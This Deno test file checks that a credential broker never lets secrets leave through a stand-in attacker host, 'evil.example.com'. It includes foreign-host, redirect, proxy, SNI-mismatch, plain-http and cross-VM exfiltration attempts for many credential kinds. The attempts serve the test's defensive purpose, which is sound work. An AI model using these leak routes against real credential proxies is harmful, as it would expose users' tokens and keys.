/**
 * Every kind of credential is tried by the same ways out, through the real proxy: foreign hosts, wrong
 * places, bodies, plain http, another VM, a redirect, and a host that acts as a proxy
 * (docs/concepts/threat-model.md).
 */
import { assert, assertEquals } from "@std/assert";
import { CredentialBroker, type NewCredential } from "../../../lib/credential/mod.ts";
import { Subscriptions } from "../../../lib/credential/subscription/subscriptions.ts";
import { basic, KEY, world } from "../../helper/credential.ts";
import { TestNet } from "../../helper/net.ts";
import { fixedUpstream } from "../../helper/net_client.ts";

const EVIL = "evil.example.com";
const ACME = { hosts: ["api.acme.example"], headers: ["x-acme-key"] };
const HOUR = 3_600_000;

/** One kind: where its secret goes, as a request with `REF`; nothing for a secret that no request carries. */
interface Kind {
  name: string;
  secret: string;
  /** absent: not added as a key */
  entry?: Omit<NewCredential, "secret">;
  host: string;
  path?: string;
  header?: string;
}

const bearer = "authorization: Bearer REF";
const secretOf = (name: string) => `${name}-a-secret-0123456789`;

const KINDS: Kind[] = [
  {
    name: "key in a header",
    entry: { provider: "gitlab" },
    host: "gitlab.com",
    header: "private-token: REF",
  },
  { name: "key of Basic", entry: { provider: "bitbucket" }, host: "bitbucket.org", header: "BASIC" },
  { name: "key in a query", entry: { provider: "google" }, host: "www.googleapis.com", path: "/v1?key=REF" },
  { name: "key in a path", entry: { provider: "telegram" }, host: "api.telegram.org", path: "/botREF/getMe" },
  {
    name: "key of an added provider",
    entry: { provider: "acme", custom: ACME },
    host: "api.acme.example",
    header: "x-acme-key: REF",
  },
  {
    name: "key for a named host",
    entry: { provider: "mcp", hosts: ["mcp.example.com"] },
    host: "mcp.example.com",
    header: bearer,
  },
  {
    name: "secret of a program",
    entry: { provider: "npm", origin: { program: ["pass", "show", "npm"] } },
    host: "registry.npmjs.org",
    header: bearer,
  },
  {
    name: "token of Google Cloud",
    entry: { provider: "gcp", origin: { program: ["gcloud"] } },
    host: "storage.googleapis.com",
    header: bearer,
  },
  { name: "token of a login", host: "api.anthropic.com", path: "/v1/models", header: bearer },
  { name: "token that renews a login", host: "platform.claude.com" },
  {
    name: "keys of AWS",
    entry: { provider: "aws" },
    host: "s3.us-east-1.amazonaws.com",
  },
  {
    name: "password of a database",
    entry: { provider: "postgres", hosts: ["db.example.com:5432"], database: { user: "app" } },
    host: "db.example.com",
  },
  {
    name: "SSH key",
    entry: {
      provider: "ssh",
      hosts: ["git.example.com:22"],
      ssh: { public_key: "ssh-ed25519 AAAA", servers: [] },
    },
    host: "git.example.com",
  },
].map((each): Kind => ({
  ...each,
  secret: each.name === "keys of AWS"
    ? "AKIAABCDEFGHIJKLMNOP:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    : secretOf(each.name.replaceAll(" ", "-")),
}));

Deno.test(
  "no kind of credential leaves by a foreign host, a wrong place, plain http, a redirect, a proxy or another VM",
  world([], async ({ store }) => {
    const logins = new Subscriptions(store);
    const refs = new Map<string, string>();
    const provided: Record<string, { secret: string; expires_at: number }> = {};
    for (const { name, entry, secret } of KINDS) {
      if (!entry) continue;
      const stored = entry.origin ? `random-text-of-${name.replaceAll(" ", "-")}` : secret;
      const [{ ref }] = await store.add([{ ...entry, secret: stored }]);
      refs.set(name, ref);
      if (entry.origin) provided[ref] = { secret, expires_at: Date.now() + HOUR };
    }
    const secretNamed = (name: string) => KINDS.find((kind) => kind.name === name)!.secret;
    const login = await logins.save({ login: "claude" }, {
      access: secretNamed("token of a login"),
      refresh: secretNamed("token that renews a login"),
      expires_at: Date.now() + HOUR,
      facts: {},
    });
    refs.set("token of a login", login.access.ref);
    refs.set("token that renews a login", login.refresh!.ref);

    const providers = [...new Set(["anthropic", ...KINDS.flatMap(({ entry }) => entry?.provider ?? [])])];
    const options = { store, logins, custom: { acme: ACME } };
    const broker = await CredentialBroker.open({ ...options, providers, vm: "vm-a" });
    const stranger = await CredentialBroker.open({ ...options, providers: ["github"], vm: "vm-b" });
    for (const each of [broker, stranger]) await each.provide(provided);

    const names = [EVIL, ...new Set(KINDS.map(({ host }) => host))];
    const targets = new Map<string, ReturnType<typeof fixedUpstream>>();
    const target = (host: string, port: number) =>
      targets.get(`${port === 80 ? "http " : ""}${host}`)?.target;
    await using net = await TestNet.open({ broker, target });
    await using other = await TestNet.open({ broker: stranger, target });
    const answer = `HTTP/1.1 302 Found\r\nlocation: https://${EVIL}/\r\ncontent-length: 0\r\n\r\n`;
    for (const name of names) {
      targets.set(name, fixedUpstream(answer, await net.leaf(name)));
      targets.set(`http ${name}`, fixedUpstream(answer));
    }
    const sent = () => [...targets.values()].flatMap(({ requests }) => requests);
    const evil = targets.get(EVIL)!;

    interface Way {
      from?: TestNet;
      host: string;
      /** name in the handshake; default: the host */
      door?: string;
      scheme?: "http";
      target: string;
      header?: string;
      body?: string;
    }
    const ask = async (
      { from = net, host, door = host, scheme, target, header = "x: y", body = "" }: Way,
    ) => {
      const client = scheme ? await from.client() : await from.tls(door);
      const head = `${body ? "POST" : "GET"} ${target} HTTP/1.1\r\nHost: ${host}\r\n${header}\r\n`;
      const { status } = await client.ask(`${head}Content-Length: ${body.length}\r\n\r\n${body}`);
      client.close();
      return status;
    };

    for (const { name, secret, host, path = "/", header } of KINDS) {
      const ref = refs.get(name)!;
      const filled = (text: string) =>
        text === "BASIC" ? `authorization: ${basic(`x:${ref}`)}` : text.replace("REF", ref);
      const own = { target: filled(path), ...(header && { header: filled(header) }) };
      const isCarried = header !== undefined || path.includes("REF");
      const forms = isCarried ? [own] : [];
      forms.push(
        { target: "/", header: `authorization: Bearer ${ref}` },
        { target: "/", header: `authorization: ${basic(`app:${ref}`)}` },
        { target: "/", header: `cookie: key=${ref}` },
        { target: `/${ref}/x` },
        { target: `/?key=${ref}` },
      );
      const before = sent().length;
      for (const form of forms) {
        assertEquals(await ask({ host: EVIL, ...form }), 403, `${name} at a foreign host: ${form.target}`);
      }
      const [form] = forms;
      const plain = await ask({ host, scheme: "http", ...form });
      assertEquals(plain, 403, `${name} over plain http`);
      assertEquals(await ask({ from: other, host, ...form }), 403, `${name} of another VM's grant`);
      // A host that acts as a proxy, and a foreign one behind the right name.
      const absolute = form.target.startsWith("/") ? `https://${EVIL}${form.target}` : form.target;
      assert(await ask({ host, ...form, target: absolute }) >= 400, `${name} by way of a proxy`);
      assert(await ask({ host: EVIL, door: host, ...form }) >= 400, `${name} behind another name`);
      assert(await ask({ host, door: EVIL, ...form }) >= 400, `${name} at another's door`);
      assertEquals(sent().length, before, `a refused request of ${name} is not sent`);
      assert(!isCarried || await ask({ host, ...own }) === 302, `${name} goes where it belongs`);
      const arrived = targets.get(host)!.requests.filter((request) =>
        request.includes(secret) || header === "BASIC"
      );
      assertEquals([arrived.length, sent().length - before], isCarried ? [1, 1] : [0, 0]);
      const whole = header === "BASIC" ? basic(`x:${secret}`) : secret;
      if (isCarried) assert(arrived[0].includes(whole), arrived[0]);
      // A body is sent, without the ref and without the secret.
      for (const at of [EVIL, host]) {
        const body = JSON.stringify({ key: ref });
        await ask({ host: at, target: "/", header: "content-type: application/json", body });
      }
      for (const request of sent().filter((each) => each.startsWith("POST"))) {
        assert(!request.includes(secret) && !request.includes(ref), request);
      }
      for (const request of evil.requests) assert(!request.includes(secret), request);
    }
    assertEquals(evil.requests.filter((request) => request.startsWith("GET")), [], "no redirect is followed");
    const record = JSON.stringify([net, other].map(({ gate }) => gate.entries));
    for (const { name, secret } of KINDS) assert(!record.includes(secret), `${name} is on record`);
    for (const upstream of targets.values()) upstream.close();
    for (const each of [broker, stranger]) await each.close();
  }),
);

Deno.test(
  "a key that one VM brought is no other VM's, whatever its provider",
  world([], async ({ store }) => {
    const captured = ["gitlab", "npm", "anthropic", "github", "stripe"] as const;
    const secrets: Record<string, string> = {
      gitlab: "glpat-Zx8kQ2mN7pR4sT9vW1yB",
      npm: "npm_abcdefghijklmnopqrstuvwxyz0123456789",
      anthropic: KEY.anthropic,
      github: KEY.github,
      stripe: `sk_live_${"Zx8kQ2mN7pR4".repeat(3)}`,
    };
    for (const provider of captured) await store.add([{ provider, secret: secrets[provider], vm: "vm-a" }]);
    const own = await CredentialBroker.open({ store, providers: captured, vm: "vm-a" });
    const other = await CredentialBroker.open({ store, providers: captured, vm: "vm-b" });
    const hosts: Record<string, string> = {
      gitlab: "gitlab.com",
      npm: "registry.npmjs.org",
      anthropic: "api.anthropic.com",
      github: "api.github.com",
      stripe: "api.stripe.com",
    };
    for (const { provider, ref } of store.list()) {
      const send = (broker: CredentialBroker) =>
        broker.inject({ scheme: "https", host: hosts[provider], port: 443 }, [[
          "authorization",
          `Bearer ${ref}`,
        ]]);
      assertEquals(send(own).headers, [["authorization", `Bearer ${secrets[provider]}`]]);
      let code = "";
      try {
        send(other);
      } catch (error) {
        code = (error as { code: string }).code;
      }
      assertEquals(code, "credential.denied", provider);
    }
    for (const each of [own, other]) await each.close();
  }),
);
